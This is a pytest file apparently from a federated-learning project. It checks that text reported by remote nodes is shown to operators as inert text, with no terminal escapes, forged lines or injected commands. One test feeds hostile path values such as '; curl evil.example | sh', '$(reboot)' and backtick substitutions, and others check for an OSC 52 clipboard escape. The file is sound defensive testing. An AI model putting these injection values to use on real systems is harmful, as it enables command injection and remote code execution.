"""Whatever a node says, on its way to a person: it rules no terminal and poses as nobody."""

from __future__ import annotations

import html
import io
import json
import os
import shlex
import subprocess
import sys
from pathlib import Path
from types import SimpleNamespace

import pytest
from rich.console import Console

from fedrnn import nodes
from fedrnn.printable import printable
from fedrnn.reporting import report
from fedrnn.reporting.glance import glance
from fedrnn.reporting.progress import Display
from fedrnn.transport.link import LinkError
from tests.hostile_texts import FORGED, TEXTS, WORDS, as_json, encoded, unsafe
from tests.made_runs import edit, edit_rounds, make_run

ROOT = Path(__file__).parents[2]


@pytest.mark.parametrize("what", TEXTS)
def test_a_text_is_one_plain_short_line(what):
    shown = printable(TEXTS[what], 200)
    assert unsafe(f"pi1: {shown}") == [] and len(shown) <= 800
    assert printable(shown, 800) == shown


def test_a_long_text_keeps_both_ends_and_tells_the_number():
    text = "begin" + "x" * 10_000 + "end"
    shown = printable(text, 100)
    assert shown.startswith("beginx") and shown.endswith("xend") and len(shown) <= 100
    left = int(shown.split("… (")[1].split(" characters more)")[0].replace(",", ""))
    assert left + shown.count("x") + len("beginend") == len(text) and printable(text, None) == text


def test_letters_of_any_script_stay():
    text = "Łódź Ἀθῆναι Москва 東京 हिन्दी مرحبا 😀\t`'\"$\\"
    assert printable(text) == text


PLAY = """
- hosts: all
  gather_facts: false
  connection: local
  vars:
    ansible_python_interpreter: "{{ ansible_playbook_python }}"
    texts: "{{ lookup('file', 'texts.json') | from_json }}"
  tasks:
    - name: A module lies
      lie: {text: "{{ item }}"}
      loop: "{{ texts }}"
      loop_control: {label: "{{ item }}"}
      ignore_errors: true
    - name: A file differs
      ansible.builtin.copy: {content: "one line", dest: "{{ playbook_dir }}/before"}
      check_mode: true
      diff: true
    - name: A shell lies
      ansible.builtin.raw: cat FOLDER/said; cat FOLDER/said >&2; exit 1
      ignore_errors: true
    - name: Our own lines
      ansible.builtin.debug: {msg: ["STOP  pi1: it's \\"here\\" #1", "      -> `rm 'x y'`"]}
    - name: It fails
      ansible.builtin.fail: {msg: "{{ texts | join }}"}
"""
LIE = """#!/usr/bin/python
# A module of the old kind: WANT_JSON
import pathlib, sys

text = __import__("json").loads(pathlib.Path(sys.argv[1]).read_text())["text"]
print(pathlib.Path("FOLDER/long.json" if len(text) > 9999 else "FOLDER/short.json").read_text())
raise SystemExit(1)
"""


@pytest.fixture(scope="module")
def folder(tmp_path_factory) -> Path:
    """A play whose module, shell and files say all of the table."""
    folder = tmp_path_factory.mktemp("play")
    (folder / "library").mkdir()
    (folder / "library" / "lie.py").write_text(LIE.replace("FOLDER", str(folder)))
    (folder / "before").write_text(WORDS.replace("\0", "").encode(errors="replace").decode())
    (folder / "said").write_bytes(encoded(WORDS + TEXTS["a megabyte"]))
    texts = {"short": WORDS.encode(errors="replace").decode(), "long": TEXTS["a megabyte"]}
    for name, text in texts.items():
        (folder / f"{name}.json").write_text(as_json(text))
    (folder / "texts.json").write_text(json.dumps(list(texts.values())))
    (folder / "play.yml").write_text(PLAY.replace("FOLDER", str(folder)))
    return folder


def ansible(folder: Path, tool: str, *words: str, **more: str) -> str:
    """All that a tool of Ansible's prints."""
    done = subprocess.run(
        [Path(sys.executable).with_name(tool), "-i", "pi1,", *words], cwd=folder, timeout=120,
        env={**os.environ, "ANSIBLE_CONFIG": str(ROOT / "ansible.cfg"), **more},
        stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
    )  # fmt: skip
    assert done.returncode in (0, 2), done.stdout[-3000:]
    return done.stdout.decode()


def test_ansible_prints_what_a_node_says_as_text(folder):
    said = ansible(folder, "ansible-playbook", "play.yml")
    assert unsafe(said) == [], said[-3000:]
    assert said.count("failed: [pi1] (item=") == 2 and "\\x1b]52;c;" in said
    assert f"\n| -{FORGED}" in said and "\n| +one line" in said
    for where in ("[ERROR]: ", "[WARNING]: ", "diff:\n", "fatal: [pi1]: FAILED! => "):
        assert where in said
    assert "\n|   msg:\n|     - STOP  pi1: it's \"here\" #1\n|     -       -> `rm 'x y'`\n" in said
    last = said[said.index("PLAY RECAP") :].splitlines()
    assert last[-4] == "pi1 failed: It fails" and "characters more)" in last[-3]
    assert last[-1] == "Once that is mended, go on with: ansible-playbook -i pi1, play.yml"


def test_another_output_and_more_words_are_cleaned_likewise(folder):
    """Lines are told apart there, too; whoever chooses it has a node's lines behind a bar."""
    chosen = {"ANSIBLE_STDOUT_CALLBACK": "default", "ANSIBLE_CALLBACK_RESULT_FORMAT": "yaml"}
    said = ansible(
        folder, "ansible-playbook", "-vvv", "--start-at-task", "A shell lies", "play.yml", **chosen
    )
    assert unsafe(said.replace("\n|", "\n>")) == [] and "\\x1b]52;c;" in said
    said = ansible(folder, "ansible", "all", "-c", "local", "-m", "raw", "-a", "cat said")
    assert unsafe(said.replace("\n|", "\n>")) == [] and f"\n| {FORGED}" in said


def a_node(**more: object) -> dict:
    """A node as role preflight knows it: one that has answered nothing."""
    return {
        "address": "127.0.0.1", "port": 22, "user": "pi", "known_as": "127.0.0.1",
        "inventory": "/tmp/it's here", "known_hosts": "/tmp/it's here/known_hosts", "variables": [],
        "unreachable": False, "said": "", "answer": "", "root": False,
        "researchers": [], "retired": [], **more,
    }  # fmt: skip


def judged(tmp_path: Path, **found: dict) -> dict:
    """What the judge, which is a program, reports of nodes."""
    sizes = ("memory", "memory_and_swap", "disk", "disk_provisioned", "disk_speed", "clock")
    wanted = {**dict.fromkeys(sizes, 9), "distributions": {"debian": "12"}, "python": "3"}
    question = {
        "roles": str(ROOT / "roles"), "nodes": found, "inventory": [], "identity_only": False,
        "wanted": {**wanted, "internet": True, "locks": str(tmp_path)},
    }  # fmt: skip
    done = subprocess.run(
        [sys.executable, ROOT / "roles/preflight/files/judge.py"],
        input=json.dumps(question), capture_output=True, text=True, check=True,
    )  # fmt: skip
    assert done.stdout.isascii() and done.stdout.isprintable()
    report = json.loads(done.stdout)
    json.dumps(report, ensure_ascii=False).encode()  # else Ansible refuses it
    return report


QUESTIONS = (
    "root", "home", "release", "userland", "python", "swap_makers", "kernel_log", "names", "sites",
    "rfkill", "unconfigured", "stray", "apt_locks",
)  # fmt: skip


def test_preflight_tells_what_a_node_says_as_text(tmp_path):
    told = {}
    for number, text in enumerate(TEXTS.values()):
        lies = {
            **dict.fromkeys(QUESTIONS, text),
            "swap_makers": f"{text}\n{text}",
            "names": f"no {text}",
            "userland": f"arm64{text}",
            "routes": "default",
            "kernel_log": f"mmc0: error {text}",
            "apt_locks": f"/lock {text[:9].split()[0]} {text}",
            "mounts": f"/dev/a {text.split()[0][:99]} ext4 ro 0 0",
        }
        answer = "".join(f"\n@ {name}\n{said}\n" for name, said in lies.items()) + "@ end\n"
        told[f"a{number}"] = a_node(answer=answer, port=number)
        told[f"b{number}"] = a_node(answer=text)
        told[f"c{number}"] = a_node(unreachable=True, said=f"ssh: {text}")
    report = judged(tmp_path, **told)
    lines = report["table"].splitlines()
    assert {one["node"] for one in report["findings"]} == told.keys()
    assert unsafe(report["table"]) == [] and len(lines) == 2 * len(report["findings"])
    starts = tuple(f"{level}  {name} " for name in told for level in ("STOP", "warn"))
    assert all(line.startswith(starts) for line in lines[::2])
    assert all(line.startswith("      -> ") for line in lines[1::2])
    assert max(map(len, lines)) < 12_000
    says = [one["says"] for one in report["findings"] if one["finding"] == "unreachable"]
    assert any(TEXTS["the clipboard"] in said for said in says), "the report has the whole text"


def test_a_command_of_preflight_has_no_word_that_a_node_made_up(tmp_path):
    good = "/home/pi/.local/lib/python3.11/site-packages/torchvision"
    bad = ["/", "/etc", f"{good}/../../..", f"{good}; curl evil.example | sh", "$(reboot)/syft",
           "/home/../etc/.local/lib/python3.1/site-packages/syft", "-rf", f"`{good}`"]  # fmt: skip
    home = "/home/pi; curl evil.example | sh"
    answer = "\n".join(["@ root", "yes", "@ home", home, "@ stray", good, *bad, "@ end", ""])
    remedies = {
        one["finding"]: one["remedy"]
        for one in judged(tmp_path, pi1=a_node(answer=answer))["findings"]
    }
    assert f"`sudo rm -r {good}`" in remedies["stray-python"]
    assert "evil" not in "".join(remedies.values())
    unreachable = judged(tmp_path, pi1=a_node(unreachable=True))["findings"][0]["remedy"]
    words = shlex.split(unreachable.split("`")[1])
    assert words == ["ansible", "-i", "/tmp/it's here", "-m", "ping", "pi1", "-vvv"]


def glance_of(text: str) -> dict:
    """What a node tells `fedrnn.nodes`, with one text in the place of all others."""
    questions = ("model", "pretty", "kernel_release", "datasite", "datasite_failed", "throttled")
    lies = {
        "clock": "1\n2",
        "installed": "yes",
        "mounts": f"/dev/a /{text[:99]} ext4 ro 0 0",
        "kernel_log": f"mmc0: error {text}",
        "venv": f"Python {text}\ntorch-{text}",
        "last_job": json.dumps({"job": text, "status": text}),
        **dict.fromkeys(questions, text),
    }
    told = "".join(f"\n@ {name}\n{said}\n" for name, said in lies.items())
    return glance("pi1", f"{told}@ told\n")


@pytest.mark.parametrize("width", [40, 60, 80, 120, 300])
def test_the_glance_tells_what_a_node_says_as_text(width):
    rows = [glance_of(text) for text in TEXTS.values()]
    rows += [nodes.unreachable("pi1", text) for text in TEXTS.values()]
    console = Console(file=io.StringIO(), width=width)
    nodes.show(console, rows)
    said = console.file.getvalue()
    assert unsafe(said) == []
    assert said.rstrip().endswith(f"0 of {len(rows)} nodes are healthy"[-width:])


@pytest.mark.parametrize("width", [40, 80])
def test_no_word_of_a_node_begins_a_line_of_the_glance(width):
    """Whatever it puts in front, so that a terminal of that width would fold the line there."""
    texts = [f"{'x' * length} {FORGED}" for length in range(width)]
    rows = [glance_of(text) for text in texts]
    console = Console(file=io.StringIO(), width=width)
    nodes.show(console, [*rows, *(nodes.unreachable("pi1", text) for text in texts)])
    said = console.file.getvalue()
    assert said.count("curl") > width and "\nOnce" not in said and "\ncurl" not in said


def test_the_json_of_the_glance_keeps_the_whole_text():
    rows = [nodes.unreachable("pi1", text) for text in TEXTS.values()]
    said = json.dumps(rows)
    assert unsafe(said.replace("x" * (1 << 20), "")) == []
    assert [row["problems"][0] for row in json.loads(said)] == list(TEXTS.values())


def test_a_run_tells_what_a_node_says_as_text(capsys):
    display = Display(3)
    members = []
    for number, text in enumerate(TEXTS.values()):
        display.say(f"pi1: {text}")
        display.say(str(LinkError(f"pi1: {text}")))
        assert "\n" not in str(LinkError(text)) and len(str(LinkError(text))) < 40_000
        described = {"dataset": text, "rows": number, "labels": {text: 1}, "mock": {text: [text]}}
        members.append(SimpleNamespace(name=f"pi{number}", described=described))
    display.console.width = 200
    display.nodes(
        members, {member.name: text for member, text in zip(members, TEXTS.values(), strict=True)}
    )
    display.event(
        {"event": "round", "round": 1, "loss": 1.0, "seconds": 1.0, "nodes": {}, "errors": {}}, 0
    )
    said = capsys.readouterr().out
    assert unsafe(said) == [] and max(map(len, said.splitlines())) < 20_000


def test_a_report_shows_what_a_node_says_as_text(tmp_path):
    texts = [text[:200] for text in TEXTS.values()]
    run = make_run(
        tmp_path / "run", labels=(*(text for text in texts if "\ud800" not in text), "Zulu")
    )

    def away(event):
        del event["nodes"]["pi2"]
        event["errors"]["pi2"] = texts[event["round"] % len(texts)]

    edit_rounds(run, away)
    edit(run / "manifest.json", lambda m: m["nodes"]["pi1"].update(system="\n".join(texts)))
    edit(run / "summary.json", lambda s: s.update(problem=" ".join(texts)))
    page = report.write(run).read_text()
    assert unsafe(page.replace(FORGED, "")) == [] and "\\u202ella era sedon" in html.unescape(page)
